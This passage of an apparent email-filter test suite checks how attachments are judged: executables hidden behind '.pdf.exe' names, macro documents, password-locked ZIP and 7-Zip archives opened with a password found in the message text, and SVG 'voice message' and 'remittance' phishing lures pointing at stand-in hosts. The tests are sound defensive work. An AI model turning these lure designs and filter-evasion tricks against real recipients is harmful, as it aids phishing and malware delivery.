  assert.deepEqual(await summary([{ filename: 'a.7z', content: nested }], policy({ inspectArchives: false })), []);
  // a web page is read at any depth, as in a ZIP
  assert.deepEqual(await summary([{ filename: 'fax.7z', content: sevenZipArchive([['Fax.html', LOGIN_PAGE]]) }], policy({ maxArchiveDepth: 1 })), [
    'risky: fax.7z > Fax.html (.html)', 'phish-page: fax.7z > Fax.html (a web page that asks for a password)',
  ]);
});

function mime(parts: Array<{ name: string; type: string; content: Buffer }>): Buffer {
  const head = 'From: sender@sender.test\r\nTo: bob@example.com\r\nSubject: documents\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="B"\r\n\r\n';
  const body = ['--B\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nPlease see the attachments.\r\n',
    ...parts.map((p) => `--B\r\nContent-Type: ${p.type}; name="${p.name}"\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename="${p.name}"\r\n\r\n${p.content.toString('base64').replace(/.{76}/g, '$&\r\n')}\r\n`)];
  return Buffer.from(head + body.join('') + '--B--\r\n');
}

const deps = (over: Partial<AttachmentsOptions> = {}): CheckDeps<AttachmentsOptions> => ({
  options: attachmentsOptionsSchema.parse(over), config: testConfig(), store: fakeStore(), log: quietLog, signal: new AbortController().signal,
});
const ctx = (raw: Buffer): DataContext => ({
  session: session(), envelope: { mailFrom: 'sender@sender.test', recipients: ['bob@example.com'] }, raw,
  parsed: () => parseMessage(raw), auth: () => { throw new Error('not used'); },
});

test('the attachments check: one symbol per kind, details name the files, the reply is ASCII', async () => {
  const raw = mime([
    { name: 'Счёт.pdf.exe', type: 'application/octet-stream', content: windowsProgram() },
    { name: 'archive.zip', type: 'application/zip', content: zipArchive([['a.js', 'x'], ['b.vbs', 'y'], ['c.cmd', 'z']]) },
    { name: 'page.htm', type: 'text/html', content: Buffer.from('<form action="https://phish.test">') },
  ]);
  const hits = await attachmentsCheck.run(ctx(raw), deps());
  assert.deepEqual(hits.map((h) => h.symbol), ['ATTACH_BLOCKED', 'ATTACH_RISKY', 'ATTACH_DECEPTIVE_NAME']);
  const blocked = hits[0]!.detail!;
  assert.equal(blocked, 'Счёт.pdf.exe (.exe); archive.zip > a.js (.js); archive.zip > b.vbs (.vbs); and 1 more');
  assert.equal(hits[1]!.detail, 'page.htm (.htm)');
  const reply = parseReply('554 5.7.1 Attachment type not accepted: {detail}', blocked);
  assert.deepEqual(reply, { code: 554, enhanced: '5.7.1', message: 'Attachment type not accepted: ????.pdf.exe (.exe); archive.zip > a.js (.js); archive.zip > b.vbs (.vbs); and 1 more' });
});

test('the attachments check: an SVG picture that links to a web site with the recipient\'s address (the "voice message" button)', async () => {
  const svg = (href: string) => Buffer.from(`<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="420" height="140"><text x="110" y="58">Voice message - 0:47</text><a xlink:href="${href}" target="_blank"><rect width="150" height="28"/><text>Play message</text></a></svg>`);
  // bob@example.com in base64, as the fortieth held-out pair's lure carries it
  const lure = mime([{ name: 'VM_0047.svg', type: 'image/svg+xml', content: svg('https://vm-playback.cdn-audio.test/play/?m=Ym9iQGV4YW1wbGUuY29t&amp;id=0047') }]);
  const hits = await attachmentsCheck.run(ctx(lure), deps());
  assert.deepEqual(hits.map((h) => h.symbol), ['ATTACH_RISKY', 'ATTACH_PHISH_PAGE']);
  assert.equal(hits[1]!.detail, 'VM_0047.svg (an SVG picture that links to vm-playback.cdn-audio.test with the recipient\'s address)');
  // a diagram's link to its documentation carries no one's address: the picture's type alone
  const diagram = mime([{ name: 'Netzplan.svg', type: 'image/svg+xml', content: svg('https://www.diagrams.net/doc/faq/svg-export-text-problems') }]);
  assert.deepEqual((await attachmentsCheck.run(ctx(diagram), deps())).map((h) => h.symbol), ['ATTACH_RISKY']);
  // or named as a payment document, with no address in the link (the fifty-third pair's "remittance advice" from a hacked joinery)
  const remittance = mime([{ name: 'Remittance_HH-PAY-7719204.svg', type: 'image/svg+xml', content: svg('https://harbourhealth-remit.test/view?ref=7719204') }]);
  const named = await attachmentsCheck.run(ctx(remittance), deps());
  assert.deepEqual(named.map((h) => h.symbol), ['ATTACH_RISKY', 'ATTACH_PHISH_PAGE']);
  assert.equal(named[1]!.detail, 'Remittance_HH-PAY-7719204.svg (an SVG picture named as a "remittance" that links to harbourhealth-remit.test)');
  for (const name of ['Fattura_proforma_118-2026.svg', 'Potwierdzenie_przelewu_FV-2026-11-0341.svg', 'Τιμολόγιο_418.svg', 'Счёт_на_оплату_1187.svg', 'Zahlungsavis_0046.svg'])
    assert.deepEqual((await attachmentsCheck.run(ctx(mime([{ name, type: 'image/svg+xml', content: svg('https://x.test/v') }])), deps())).map((h) => h.symbol), ['ATTACH_RISKY', 'ATTACH_PHISH_PAGE'], name);
  // or named as a voice message, which comes as a sound file (the seventy-fifth pair's "VM_441614960382_0047.svg")
  for (const name of ['VM_441614960382_0047.svg', 'Voicemail_0:47.svg', 'Sprachnachricht_Rückruf.svg', 'Messaggio_vocale_0047.svg', 'Голосовое_сообщение.svg'])
    assert.deepEqual((await attachmentsCheck.run(ctx(mime([{ name, type: 'image/svg+xml', content: svg('https://x.test/play') }])), deps())).map((h) => h.symbol), ['ATTACH_RISKY', 'ATTACH_PHISH_PAGE'], name);
  // a trade fair's floor plan and a logo with a link to their site are pictures
  for (const name of ['Belegungsplan_Halle_N2.svg', 'Logo_Lieferant.svg'])
    assert.deepEqual((await attachmentsCheck.run(ctx(mime([{ name, type: 'image/svg+xml', content: svg('https://www.lieferant.test/') }])), deps())).map((h) => h.symbol), ['ATTACH_RISKY'], name);
});

test('the attachments check: allowExtensions lets a type through; replaced lists; bad options name the key', async () => {
  const raw = mime([{ name: 'installer.msi', type: 'application/x-msi', content: Buffer.from('msi') }]);
  assert.deepEqual((await attachmentsCheck.run(ctx(raw), deps())).map((h) => h.symbol), ['ATTACH_BLOCKED']);
  assert.deepEqual(await attachmentsCheck.run(ctx(raw), deps({ allowExtensions: ['.MSI'] })), []);
  assert.deepEqual((await attachmentsCheck.run(ctx(raw), deps({ blockExtensions: ['exe'], riskyExtensions: ['msi'] }))).map((h) => h.symbol), ['ATTACH_RISKY']);
  const bad = attachmentsOptionsSchema.safeParse({ blockExtensions: ['exe', '*.scr'] });
  assert.equal(bad.success, false);
  assert.deepEqual(bad.error!.issues[0]!.path, ['blockExtensions', 1]);
  // no attachments, nothing to say
  const plain = Buffer.from('From: a@sender.test\r\nSubject: hi\r\n\r\nJust text.\r\n');
  assert.deepEqual(await attachmentsCheck.run(ctx(plain), deps()), []);
});

test('a password given in the text, in the offices\' languages, with or without accents and capitals', () => {
  const found: Array<[string, string]> = [
    ['Password: 1234', '1234'], ['The password is Inv2026.', 'Inv2026'], ['PASSWORT: X1y2', 'X1y2'], ['Das Kennwort lautet „Rechnung22“', 'Rechnung22'], ['Das Passwort lautet: Re2026', 'Re2026'],
    ['Пароль: 7781', '7781'], ['пароль — qwe123', 'qwe123'], ['Hasło: faktura1', 'faktura1'], ['Contraseña: 4455', '4455'],
    ['La password è 9988', '9988'], ['Κωδικός: 5566', '5566'], ['ΚΩΔΙΚΟΣ: 5566', '5566'], ['Ο κωδικός είναι 7788', '7788'], ['mot de passe : abc123', 'abc123'],
    // words between the word and the colon, and Polish "hasłem" (instrumental: "locked with the password")
    ['Archiwum zabezpieczone hasłem: 4521', '4521'], ['Hasło do archiwum: 4521', '4521'], ['Пароль для открытия: 4521', '4521'],
    ['Passwort für das Archiv: 4521', '4521'], ['Password for the file: Zx81', 'Zx81'],
    // the password as written, accents and all: the archive was locked with it
    ['Passwort: Müller1', 'Müller1'], ['Contraseña: Año2026', 'Año2026'], ['Пароль: Ёлка2026', 'Ёлка2026'], ['Κωδικός: Αθήνα77', 'Αθήνα77'], ['Hasło: Łódź2026', 'Łódź2026'],
    // accents written as combining marks (NFD) are kept too
    ['Passwort: Mu\u0308ller1', 'Mu\u0308ller1'],
    // words after "lautet"/"is" and a colon, the password on the next line (the sixteenth held-out pair's tax adviser)
    ['Das Kennwort lautet wie am Telefon vereinbart:\n\nNbg-Abschluss#2026', 'Nbg-Abschluss#2026'], ['The password is as agreed by phone:\nQ4-Close!26', 'Q4-Close!26'],
  ];
  for (const [text, password] of found) assert.equal(passwordInText(`Hello,\n${text}\nRegards`), password, text);
  for (const text of ['Reset your password today', 'passwords are secret', 'Παρακαλώ τον κωδικό', 'Der Passwortmanager hilft', 'PIN: 1234',
    // "is", "es", "è" are words of their own: not the start of "erhalten", "esta", "isn't"
    'Das Kennwort erhalten Sie wie gewohnt in einer separaten E-Mail.', 'La contraseña esta en el otro correo.', "The password isn't in this mail."]) assert.equal(passwordInText(text), null, text);
  // honest phrases where a word, not a password, follows
  for (const text of ['Your password is expiring in 3 days', 'The password is the invoice number', 'Passwort: siehe unten', 'Пароль: ниже', 'Hasło: poniżej', 'Пароль — прежний', 'Password is required.', 'Ο κωδικός είναι παρακάτω', 'Passwort für das Archiv: siehe unten',
    'Password for your account is expiring: change it today',
    // a dash that goes on with the sentence: a word of small letters after it is no password (a partner's note on its locked archive)
    'Архив защищён паролем – это требование нашей службы безопасности.', 'The file is locked with a password — that is our policy.',
    // the password agreed before, not given (the fifty-ninth pair's tax adviser and its encrypted payroll reports)
    'Die Datei ist verschlüsselt; das Passwort ist unverändert das Ihnen bekannte Mandantenkennwort.', 'The password is as agreed on the phone.',
    'La password è la solita del mese scorso.', 'La contraseña es la habitual.', 'Hasło jak zwykle.', 'Пароль тот же, что и в прошлый раз.', 'Ο κωδικός είναι ο ίδιος.']) assert.equal(passwordInText(text), null, text);
  // "wie folgt:" is no password, what follows it is
  assert.equal(passwordInText('Das Passwort lautet wie folgt: Qm-2026'), 'Qm-2026');
  // after a dash, a password with a digit or a capital still counts
  assert.equal(passwordInText('Архив защищён паролем – Bcl2026'), 'Bcl2026');
  // a stop word first, the real password after it
  assert.equal(passwordInText('Your password is expiring. New password: Kx91-b'), 'Kx91-b');
});

test('inspectAttachments: a locked ZIP (ZipCrypto, stored or deflated) is opened with the password the text gives, and only with the right one', async () => {
  const doc = oleDocument({ macros: true });
  for (const stored of [false, true]) {
    const locked = zipArchive([['Rechnung.doc', doc], ['Liesmich.txt', 'Bitte Makros aktivieren.']], { password: 'Re2026', stored });
    const found = async (passwords: string[]) => (await inspectAttachments([{ filename: 'Rechnung.zip', content: locked }], policy(), () => passwords)).map((f) => `${f.kind}: ${f.path.join(' > ')} (${f.why})`);
    assert.deepEqual(await found(['Re2026']), [
      'macro: Rechnung.zip > Rechnung.doc (an Office document with macros)',
      'encrypted: Rechnung.zip (password-protected ZIP, opened with the password in the text)',
    ], stored ? 'stored' : 'deflated');
    assert.deepEqual(await found(['re2026', 'Re2025']), ['encrypted: Rechnung.zip (password-protected ZIP)'], 'wrong passwords open nothing');
    assert.deepEqual(await found([]), ['encrypted: Rechnung.zip (password-protected ZIP)']);
    // every locked entry opened, whatever its type, is kept for the virus scanner, byte for byte
    const opened = async (passwords: string[]) => (await inspectAttachmentFiles([{ filename: 'Rechnung.zip', content: locked }], policy(), () => passwords)).unlocked;
    assert.deepEqual((await opened(['Re2026'])).map((f) => [f.path.join(' > '), f.data.equals(f.path[1] === 'Rechnung.doc' ? doc : Buffer.from('Bitte Makros aktivieren.'))]), [
      ['Rechnung.zip > Rechnung.doc', true],
      ['Rechnung.zip > Liesmich.txt', true],
    ]);
    assert.deepEqual(await opened(['Re2025']), []);
  }
  // within the unpack budget: what does not fit stays locked
  const big = zipArchive([['a.txt', 'x'.repeat(5000)], ['b.txt', 'y'.repeat(5000)]], { password: 'pw123' });
  const budgeted = await inspectAttachmentFiles([{ filename: 'big.zip', content: big }], { ...policy(), maxUnpackBytes: 6000 }, () => ['pw123']);
  assert.deepEqual(budgeted.unlocked.map((f) => f.path.at(-1)), ['a.txt']);
  // as Windows tools write them: ZipCrypto checked by the CRC (no data descriptor), and WinZip AES
  // (128 and 256 bits; 7-Zip writes AE-2, with no CRC), checked by its HMAC
  const files = [['Rechnung.doc', doc], ['Liesmich.txt', 'Bitte Makros aktivieren. '.repeat(20)]] as const;
  for (const zipEncryption of ['ZipCrypto', 'AES128', 'AES256'] as const) {
    const archive = sevenZipArchive(files, { password: 'Re2026', zipEncryption });
    const opened = await inspectAttachmentFiles([{ filename: 'R.zip', content: archive }], policy(), () => ['Re2026']);
    assert.deepEqual(opened.findings.map((f) => `${f.kind}: ${f.why}`), ['macro: an Office document with macros', 'encrypted: password-protected ZIP, opened with the password in the text'], zipEncryption);
    assert.deepEqual(opened.unlocked.map((f) => [f.path.at(-1), f.data.equals(Buffer.from(files.find(([n]) => n === f.path.at(-1))![1]))]).sort(), [['Liesmich.txt', true], ['Rechnung.doc', true]], zipEncryption);
    const shut = await inspectAttachmentFiles([{ filename: 'R.zip', content: archive }], policy(), () => ['Re2025', 're2026']);
    assert.deepEqual(shut.findings.map((f) => `${f.kind}: ${f.why}`), ['encrypted: password-protected ZIP'], `${zipEncryption}: wrong passwords open nothing`);
  }
});

test('7-Zip archives locked with a password the text gives are opened (LZMA2, LZMA, Deflate, stored; names shown or encrypted), what they hold judged and kept for the scanner', async () => {
  const doc = oleDocument({ macros: true });
  const files = [['Rechnung.doc', doc], ['Belege/Liesmich.txt', 'Bitte Makros aktivieren. '.repeat(20)]] as const;
  const want = [['Belege/Liesmich.txt', true], ['Rechnung.doc', true]];
  for (const o of [{}, { method: 'lzma' }, { method: 'deflate' }, { method: 'copy' }, { encryptNames: true }, { encryptNames: true, method: 'lzma' }]) {
    const archive = sevenZipArchive(files, { password: 'Fv-2026', ...o });
    const label = JSON.stringify(o);
    const opened = await inspectAttachmentFiles([{ filename: 'Faktura.7z', content: archive }], policy(), () => ['falsch', 'Fv-2026']);
    const what = o.encryptNames ? '7-Zip archive with encrypted names' : 'password-protected 7-Zip archive';
    assert.deepEqual(opened.findings.map((f) => `${f.kind}: ${f.path.join(' > ')} (${f.why})`), [
      'macro: Faktura.7z > Rechnung.doc (an Office document with macros)',
      `encrypted: Faktura.7z (${what}, opened with the password in the text)`,
    ], label);
    assert.deepEqual(opened.unlocked.map((f) => [f.path.slice(1).join(' > '), f.data.equals(Buffer.from(files.find(([n]) => n.endsWith(f.path.at(-1)!))![1]))]).sort(),
      want.map(([n, ok]) => [String(n).split('/').pop(), ok]).sort(), label);
    // each file met once (the admin's attachment-name rules read these)
    assert.deepEqual(opened.paths.map((p) => p.join(' > ')).sort(), ['Faktura.7z', 'Faktura.7z > Liesmich.txt', 'Faktura.7z > Rechnung.doc'], label);
    const shut = await inspectAttachmentFiles([{ filename: 'Faktura.7z', content: archive }], policy(), () => ['falsch', 'fv-2026']);
    assert.deepEqual(shut.findings.map((f) => f.why), [what], `${label}: wrong passwords open nothing`);
    assert.deepEqual(shut.unlocked, []);
  }
  // a program whose name the archive hides: refused once the password shows it
  const hidden = sevenZipArchive([['Faktura.pdf.exe', windowsProgram()]], { password: 'x-4471', encryptNames: true });
  assert.deepEqual(await summary([{ filename: 'Faktura.7z', content: hidden }]), ['encrypted: Faktura.7z (7-Zip archive with encrypted names)']);
  const shown = (await inspectAttachmentFiles([{ filename: 'Faktura.7z', content: hidden }], policy(), () => ['x-4471'])).findings.map((f) => `${f.kind}: ${f.path.join(' > ')}`);
  assert.ok(shown.includes('blocked: Faktura.7z > Faktura.pdf.exe'), shown.join('; '));
  // a real program (here an ELF one) 7-Zip packs through its x86 filter, BCJ (BCJ2 at -mx=9, from
  // four streams, three of them LZMA): unpacked byte for byte, its hidden name read and refused,
  // the document beside it (in a folder of its own) opened too
  const program = readFileSync('/usr/bin/ls');
  for (const o of [{}, { level: 9 }, { level: 9, method: 'copy' }, { method: 'lzma' }]) {
    const filtered = sevenZipArchive([['Faktura.pdf.exe', program], ['Faktura.doc', doc]], { password: 'x-4471', encryptNames: true, ...o });
    const label = JSON.stringify(o);
    const named = await inspectAttachmentFiles([{ filename: 'Faktura.7z', content: filtered }], policy(), () => ['x-4471']);
    assert.deepEqual(named.unlocked.map((f) => [f.path.join(' > '), f.data.equals(f.path[1] === 'Faktura.doc' ? doc : program)]).sort(), [
      ['Faktura.7z > Faktura.doc', true], ['Faktura.7z > Faktura.pdf.exe', true],
    ], label);
    assert.deepEqual(named.findings.map((f) => `${f.kind}: ${f.path.join(' > ')} (${f.why})`).sort(), [
      'blocked: Faktura.7z > Faktura.pdf.exe (.exe)', 'deceptive: Faktura.7z > Faktura.pdf.exe (.pdf in front of .exe)',
      'encrypted: Faktura.7z (7-Zip archive with encrypted names, opened with the password in the text)',
      'macro: Faktura.7z > Faktura.doc (an Office document with macros)',
    ], label);
  }
  // 7-Zip filters a program by its content too: one named as data is known by what it unpacks to
  const renamed = sevenZipArchive([['daten.dat', program]], { password: 'x-4471' });
  assert.deepEqual((await inspectAttachmentFiles([{ filename: 'Daten.7z', content: renamed }], policy(), () => ['x-4471'])).findings.map((f) => `${f.kind}: ${f.path.join(' > ')} (${f.why})`), [
    'blocked: Daten.7z > daten.dat (a Linux program)',
    'encrypted: Daten.7z (password-protected 7-Zip archive, opened with the password in the text)',
  ]);
  // within the unpack budget
  const big = sevenZipArchive([['a.txt', 'x'.repeat(5000)]], { password: 'pw123' });
  assert.deepEqual((await inspectAttachmentFiles([{ filename: 'big.7z', content: big }], { ...policy(), maxUnpackBytes: 4000 }, () => ['pw123'])).unlocked, []);
  // a key costs 2^19 rounds of SHA-256: at most 4 are derived per message (here 5 archives, each
  // with a password of its own, not met before: keys are kept for the next archive)
  const fresh = Array.from({ length: 5 }, (_, i) => `pw-${i}-${process.pid}-${Date.now()}`);
  const archives = fresh.map((password, i) => ({ filename: `a${i}.7z`, content: sevenZipArchive([[`f${i}.txt`, `file ${i}`]], { password }) }));
  assert.equal((await inspectAttachmentFiles(archives, policy(), () => fresh)).unlocked.length, 4);
  // 5 archives with one password: one key, kept, opens all 5
  const shared = `pw-shared-${process.pid}-${Date.now()}`;
  const campaign = Array.from({ length: 5 }, (_, i) => ({ filename: `b${i}.7z`, content: sevenZipArchive([[`g${i}.txt`, `file ${i}`]], { password: shared }) }));
  assert.equal((await inspectAttachmentFiles(campaign, policy(), () => [shared])).unlocked.length, 5);
});

test('WinZip AES: the extra field is read, and data that was changed is not taken (its HMAC no longer matches)', async () => {
  const archive = sevenZipArchive([['a.txt', 'x'.repeat(3000)]], { password: 'pw-2026', zipEncryption: 'AES256' });
  const info = zipAesInfo((await entriesOf(archive))[0]!.extraFields);
  assert.deepEqual(info && { keyBytes: info.keyBytes, method: info.method }, { keyBytes: 32, method: 8 });
  assert.equal(zipAesInfo([]), null);
  assert.equal((await inspectAttachmentFiles([{ filename: 'a.zip', content: archive }], policy(), () => ['pw-2026'])).unlocked.length, 1);
  // flip one byte inside the encrypted data (after the local header, the name, the extra field, the 16-byte salt and the 2-byte check)
  const changed = Buffer.from(archive);
  const at = 30 + changed.readUInt16LE(26) + changed.readUInt16LE(28) + 16 + 2 + 5;
  changed[at] = changed[at]! ^ 0xff;
  assert.equal((await inspectAttachmentFiles([{ filename: 'a.zip', content: changed }], policy(), () => ['pw-2026'])).unlocked.length, 0);
  // each AES key costs ~0.8 ms whatever the entry's size: at most 50 are derived per message
  const many = sevenZipArchive(Array.from({ length: 60 }, (_, i) => [`f${i}.txt`, `file ${i}`] as const), { password: 'pw-2026', zipEncryption: 'AES256' });
  assert.equal((await inspectAttachmentFiles([{ filename: 'many.zip', content: many }], policy(), () => ['pw-2026'])).unlocked.length, 50);
  assert.equal((await inspectAttachmentFiles([{ filename: 'many.zip', content: many }], policy(), () => ['wrong', 'pw-2026'])).unlocked.length, 25, 'two passwords: two keys an entry');
});

test('the attachments check: a locked archive whose password the text gives adds ATTACH_ENCRYPTED_PASSWORD and is looked into; the password alone or the archive alone does not', async () => {
  const locked = { name: 'Rechnung.zip', type: 'application/zip', content: zipArchive([['Rechnung.doc', oleDocument({ macros: true })]], { password: '7781' }) };
  const withText = (text: string, parts: Parameters<typeof mime>[0]) => Buffer.from(mime(parts).toString('utf8').replace('Please see the attachments.', text));
  const both = await attachmentsCheck.run(ctx(withText('Счёт во вложении. Пароль: 7781', [locked])), deps());
  assert.deepEqual(both.map((h) => `${h.symbol}: ${h.detail}`), [
    'ATTACH_ENCRYPTED_ARCHIVE: Rechnung.zip (password-protected ZIP, opened with the password in the text)',
    'ATTACH_MACRO: Rechnung.zip > Rechnung.doc (an Office document with macros)',
    'ATTACH_ENCRYPTED_PASSWORD: the text gives the password: "7781"',
  ]);
  assert.deepEqual((await attachmentsCheck.run(ctx(withText('Счёт во вложении, пароль пришлю по телефону.', [locked])), deps())).map((h) => h.symbol), ['ATTACH_ENCRYPTED_ARCHIVE']);
  assert.deepEqual(await attachmentsCheck.run(ctx(withText('Your new password: 7781', [{ name: 'Info.pdf', type: 'application/pdf', content: PDF }])), deps()), []);
});

test('a locked archive opened with the text\'s password that holds only documents: ATTACH_ENCRYPTED_PASSWORD at a third (the auditor\'s confirmation pack, the payroll office\'s lists)', async () => {
  const withText = (text: string, parts: Parameters<typeof mime>[0]) => Buffer.from(mime(parts).toString('utf8').replace('Please see the attachments.', text));
  const pack = { name: 'Listy_plac_11_2026.zip', type: 'application/zip', content: zipArchive([['Lista_plac_11_2026.pdf', PDF], ['Zestawienie.txt', 'Podsumowanie listopad 2026']], { password: 'Bilans!2026-11' }) };
  const clean = await attachmentsCheck.run(ctx(withText('W załączeniu listy płac. Hasło do pliku: Bilans!2026-11', [pack])), deps());
  assert.deepEqual(clean.map((h) => [h.symbol, h.weight ?? 1, h.detail]), [
    ['ATTACH_ENCRYPTED_ARCHIVE', 1, 'Listy_plac_11_2026.zip (password-protected ZIP, opened with the password in the text)'],
    ['ATTACH_ENCRYPTED_PASSWORD', 1 / 3, 'the text gives the password: "Bilans!2026-11" (opened with it, the archive holds no program, script, macro or exploit)'],
  ]);
  // something inside, or an archive the password does not open: the full weight
  const script = { name: 'Fattura.zip', type: 'application/zip', content: zipArchive([['Fattura_2026-318.pdf.js', 'WScript.Echo(1)']], { password: '2026318' }) };
  const bad = await attachmentsCheck.run(ctx(withText('Password: 2026318', [script])), deps());
  assert.equal(bad.find((h) => h.symbol === 'ATTACH_ENCRYPTED_PASSWORD')?.weight, undefined);
  assert.ok(bad.some((h) => h.symbol === 'ATTACH_BLOCKED' || h.symbol === 'ATTACH_DECEPTIVE_NAME'));
  const twoLocks = [pack, { name: 'Other.zip', type: 'application/zip', content: zipArchive([['a.pdf', PDF]], { password: 'another-one' }) }];
  const half = await attachmentsCheck.run(ctx(withText('Hasło: Bilans!2026-11', twoLocks)), deps());
  assert.equal(half.find((h) => h.symbol === 'ATTACH_ENCRYPTED_PASSWORD')?.weight, undefined, 'one archive not opened: its content unseen');
});

test('the README lists the default extensions as the code has them', () => {
  const readme = readFileSync(new URL('../../../README.md', import.meta.url), 'utf8').replace(/\s+/g, ' ');
  assert.ok(readme.includes(`\`blockExtensions\` (default): ${DEFAULT_BLOCK_EXTENSIONS.join(' ')};`), 'blockExtensions');
  assert.ok(readme.includes(`\`riskyExtensions\` (default): ${DEFAULT_RISKY_EXTENSIONS.join(' ')}.`), 'riskyExtensions');
});

test('SHARED_FILE_DECEPTIVE_NAME: a file the text says was sent, under a name that hides a web page or a program; not a plain file name or a version number', async () => {
  const policy = { block: new Set(DEFAULT_BLOCK_EXTENSIONS), risky: new Set(DEFAULT_RISKY_EXTENSIONS) };
  assert.deepEqual(deceptiveNamesIn('σας έστειλε 2 αρχεία\nDiakirixi_Promitheias_2027.pdf.html   184 KB\nOroi_Symmetoxis_2027.pdf   96 KB', policy),
    ['Diakirixi_Promitheias_2027.pdf.html (.pdf in front of .html)']);
  assert.deepEqual(deceptiveNamesIn('Report v1.2.pdf, the photos.zip and notes.txt attached; see www.example.com.', policy), []);
  // a WeTransfer notification as it arrives: no attachment, the files listed in the text
  const notice = Buffer.from('From: WeTransfer <noreply@wetransfer.com>\r\nTo: bob@example.com\r\nSubject: 2 files\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n'
    + 'procurement.hotels@gmail.com sent you 2 files\r\nTender_2027.pdf.html  184 KB\r\nTerms_2027.pdf  96 KB\r\nDownload: https://we.tl/t-6HBcQEcSnj\r\n');
  assert.deepEqual((await attachmentsCheck.run(ctx(notice), deps())).map((h) => `${h.symbol}: ${h.detail}`), ['SHARED_FILE_DECEPTIVE_NAME: the text names Tender_2027.pdf.html (.pdf in front of .html)']);
  // the admin's own rule lets .html through: then the name disguises nothing it counts
  assert.deepEqual(await attachmentsCheck.run(ctx(notice), deps({ allowExtensions: ['html'] })), []);
  // a trusted relay's mail (a colleague quoting the warning) is not judged
  assert.deepEqual(await attachmentsCheck.run({ ...ctx(notice), session: { ...session(), trusted: true } }, deps()), []);
});

